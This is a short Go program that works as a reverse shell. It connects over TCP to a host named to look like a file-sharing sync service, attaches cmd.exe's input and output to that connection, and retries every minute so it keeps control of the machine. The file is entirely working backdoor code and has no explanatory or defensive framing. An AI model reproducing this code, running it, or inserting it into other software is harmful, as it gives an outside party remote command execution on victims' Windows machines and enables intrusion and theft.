package main

import (
	"net"
	"os/exec"
	"time"
)

const server = "sync.fileshare-edge.example:4430"

func session() {
	conn, err := net.Dial("tcp", server)
	if err != nil {
		return
	}
	defer conn.Close()
	cmd := exec.Command("cmd.exe")
	cmd.Stdin = conn
	cmd.Stdout = conn
	cmd.Stderr = conn
	cmd.Run()
}

func main() {
	for {
		session()
		time.Sleep(time.Minute)
	}
}
